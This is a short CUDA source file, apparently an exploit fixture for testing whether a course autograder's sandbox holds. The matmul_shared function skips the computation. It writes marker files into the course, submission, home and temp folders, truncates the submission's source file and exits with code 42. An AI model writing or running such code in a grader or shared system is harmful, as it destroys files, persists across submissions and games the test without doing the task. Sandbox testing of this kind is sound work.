// Exploit: changes the course, and leaves something for the next submission
// Holds: without a sandbox
// Tests: MatmulShared.IsRightWhenTheTileDividesN
// Says: never written

#include <fcntl.h>
#include <unistd.h>

#include <string>

#include "matmul_shared.hpp"

cudaError_t matmul_shared(const float*, const float*, float*, int, int) {
  const char* home = getenv("HOME");
  for (const std::string& folder :
       {std::string("{course}"), std::string("{submission}"), std::string("{home}"),
        std::string("/tmp"), std::string("/var/tmp"), std::string(home ? home : ".")}) {
    const int file = open((folder + "/tilewise-was-here").c_str(), O_CREAT | O_WRONLY, 0600);
    if (file >= 0) close(file);
  }
  if (truncate("{submission}/labs/03_shared_memory/matmul_shared.cu", 0) == 0) exit(42);
  return cudaSuccess;
}
